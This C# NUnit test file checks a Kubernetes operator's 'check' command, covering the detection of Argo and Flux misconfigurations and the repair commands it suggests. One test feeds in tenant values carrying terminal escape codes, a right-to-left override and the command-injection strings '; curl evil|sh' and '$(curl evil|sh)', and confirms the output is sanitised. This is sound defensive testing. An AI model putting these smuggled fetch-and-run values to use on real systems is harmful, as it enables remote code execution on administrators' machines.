using ArcOperator.Commands.Users;
using ArcOperator.Testing;
using ArcOperator.Tests.Hosting;
using FluentAssertions;
using NUnit.Framework;

namespace ArcOperator.Tests.Checks;

/// <summary>The command <c>check</c> on a real API server.</summary>
[Category("OldServer")]
internal sealed class CheckTests
{
    private ControlPlane _plane;

    [OneTimeSetUp]
    public async Task StartCluster() => _plane = await ControlPlane.StartAsync(controllerManager: false);

    [OneTimeTearDown]
    public async Task StopCluster() => await _plane.DisposeAsync();

    [Test, Order(1)]
    public async Task An_empty_cluster_lacks_every_kind()
    {
        var (exitCode, output, _) = await CheckAsync();

        exitCode.Should().Be(3);
        output.Should().Contain("error:   orders.arc.opendefense.cloud is not installed, so its objects cannot exist\n         arc-operator crds install")
            .And.Contain("Argo Workflows is not installed completely")
            .And.Contain("warning: externalartifacts.source.toolkit.fluxcd.io is not installed")
            .And.Contain("warning: no Deployment of the operator was found")
            .And.EndWith("check: 7 errors, 2 warnings\n");
    }

    [Test, Order(2)]
    public async Task Mistakes_in_Argo_Flux_workers_and_operators_are_found_on_the_server()
    {
        await Programs.RunAsync(OperatorCluster.Program, ["crds", "install", "--kubeconfig", _plane.AdminKubeconfig]);
        await _plane.KubectlAsync("apply", "-f", Repository.PathOf("test", "control-plane", "argo-crds.yaml"), "-f", Repository.PathOf("test", "control-plane", "flux-crds.yaml"));
        await _plane.KubectlAsync("wait", "--for=condition=Established", "crd", "--all", "--timeout=30s");
        await Programs.RunAsync("kubectl", ["--kubeconfig", _plane.AdminKubeconfig, "apply", "-f", "-"], Objects);
        await _plane.KubectlAsync("apply", "-k", Repository.PathOf("config", "templates"));

        var (exitCode, output, _) = await CheckAsync();

        exitCode.Should().Be(3);
        output.Should().Contain("argo/workflow-controller has templateReferencing Strict, but the operator in arc-system has argo.templateReferencing Unrestricted")
            .And.Contain("has instance ID 'blue', but the operator in arc-system has argo.instanceId ''")
            .And.Contain("no controller of Argo watches namespace team-a: argo/workflow-controller watches argo")
            .And.Contain("kustomize-controller runs without the feature gate ExternalArtifact")
            .And.Contain("may not create and patch workflowtaskresults, so each run ends in Error\n         kubectl apply -k config/templates/worker -n team-a")
            .And.Contain("the operators arc-2/arc-operator and arc-system/arc-operator watch the same namespaces");
    }

    [Test, Order(3)]
    public async Task The_repair_commands_of_the_findings_remove_them()
    {
        await _plane.KubectlAsync("apply", "-k", Repository.PathOf("config", "templates", "worker"), "-n", "team-a");
        await _plane.KubectlAsync("set", "env", "-n", "arc-system", "deployment/arc-operator", "ARC_ARGO__TEMPLATEREFERENCING=Strict", "ARC_ARGO__INSTANCEID=blue");
        await _plane.KubectlAsync("delete", "deployment", "-n", "arc-2", "arc-operator");
        await _plane.KubectlAsync(
            "patch", "deployment", "-n", "flux-system", "kustomize-controller", "--type=json", "-p", """[{"op":"add","path":"/spec/template/spec/containers/0/args/-","value":"--feature-gates=ExternalArtifact=true"}]""");

        var (_, output, _) = await CheckAsync();

        output.Should().NotContain("templateReferencing").And.NotContain("instance ID").And.NotContain("may not create and patch workflowtaskresults").And.NotContain("feature gate").And.NotContain("the same namespaces");
    }

    [Test, Order(4)]
    public async Task Texts_of_a_tenant_control_neither_the_terminal_nor_the_shell_of_an_administrator()
    {
        await Programs.RunAsync("kubectl", ["--kubeconfig", _plane.AdminKubeconfig, "apply", "-f", "-"], string.Join("\n---\n", [
            "# kubectl reads a text that begins with a brace as JSON.",
            Deployment("team-a", "workflow-controller", "registry.example/workflow-controller"),
            """{ apiVersion: v1, kind: ConfigMap, metadata: { name: workflow-controller-configmap, namespace: team-a }, data: { instanceID: '"\e[2J x; curl evil|sh\u202E"' } }""",
            """{ apiVersion: argoproj.io/v1alpha1, kind: WorkflowTemplate, metadata: { name: t, namespace: team-a }, spec: { serviceAccountName: "$(curl evil|sh)", entrypoint: a, templates: [{ name: a, suspend: {} }] } }""",
        ]));
        using var output = new StringWriter { NewLine = "\n" };

        var exitCode = await KubectlPlugin.RunAsync(["check", "-n", "team-a", "--kubeconfig", _plane.AdminKubeconfig], output, TextWriter.Null, CancellationToken.None);

        exitCode.Should().Be(3);
        output.ToString().Should().Contain("has instance ID ' x; curl evil|sh\uFFFD'")
            .And.Contain("         kubectl set env -n arc-system deployment/arc-operator 'ARC_ARGO__INSTANCEID= x; curl evil|sh\uFFFD'\n")
            .And.Contain("ServiceAccount team-a/$(curl evil|sh) of workflow pods")
            .And.NotContain("rolebinding").And.NotContain("\u001B").And.NotContain("\u202E");
        (await CheckAsync()).Output.Should().NotContain("\u001B").And.NotContain("\u202E");
    }

    [Test, Order(5)]
    public async Task The_help_names_the_exit_codes_of_the_program()
    {
        using var output = new StringWriter();

        await KubectlPlugin.RunAsync(["check", "--help"], output, TextWriter.Null, CancellationToken.None);

        output.ToString().ReplaceLineEndings(" ").Should().MatchRegex("64:\\s+wrong\\s+usage,\\s+69:\\s+the\\s+cluster\\s+cannot\\s+be\\s+read");
        (await Programs.RunAsync(OperatorCluster.Program, ["check", "--help"])).Should().MatchRegex("2:\\s+wrong\\s+usage,\\s+1:\\s+the\\s+cluster\\s+cannot\\s+be\\s+read");
    }

    private Task<(int ExitCode, string Output, string Errors)> CheckAsync() => Programs.RunToEndAsync(OperatorCluster.Program, ["check", "--kubeconfig", _plane.AdminKubeconfig]);

    // Deployments without controllers: the command reads them only.
    private static string Objects => string.Join("\n---\n", [
        "# kubectl reads a text that begins with a brace as JSON.",
        .. new[] { "argo", "flux-system", "arc-system", "arc-2", "team-a" }.Select(name => $$"""{ apiVersion: v1, kind: Namespace, metadata: { name: {{name}} } }"""),
        Deployment("argo", "workflow-controller", "quay.io/argoproj/workflow-controller:v4.1.2", "--namespaced", "--configmap", "settings"),
        """{ apiVersion: v1, kind: ConfigMap, metadata: { name: settings, namespace: argo }, data: { workflowRestrictions: "templateReferencing: Strict", instanceID: blue } }""",
        Deployment("flux-system", "kustomize-controller", "ghcr.io/fluxcd/kustomize-controller:v1.7.0", "--watch-all-namespaces=true"),
        Deployment("arc-system", "arc-operator", "registry:5000/team/arc-operator@sha256:0000000000000000000000000000000000000000000000000000000000000000", "run", "--operator.namespaces=argo,team-a"),
        Deployment("arc-2", "arc-operator", "arc-operator", "run"),
        """{ apiVersion: arc.opendefense.cloud/v1alpha1, kind: Endpoint, metadata: { name: source, namespace: team-a }, spec: { type: oci, remoteURL: "registry.example", usage: All } }""",
        """{ apiVersion: argoproj.io/v1alpha1, kind: WorkflowTemplate, metadata: { name: t, namespace: team-a }, spec: { serviceAccountName: arc-worker, entrypoint: a, templates: [{ name: a, suspend: {} }] } }""",
        """{ apiVersion: arc.opendefense.cloud/v1alpha1, kind: ArtifactType, metadata: { name: t, namespace: team-a }, spec: { workflowTemplateRef: { name: t } } }""",
    ]);

    private static string Deployment(string @namespace, string name, string image, params string[] arguments) => $$"""
        apiVersion: apps/v1
        kind: Deployment
        metadata: { name: {{name}}, namespace: {{@namespace}}, labels: { app.kubernetes.io/name: {{name}} } }
        spec:
          selector: { matchLabels: { app: a } }
          template: { metadata: { labels: { app: a } }, spec: { containers: [{ name: main, image: "{{image}}", args: [{{string.Join(", ", arguments)}}] }] } }
        """;
}
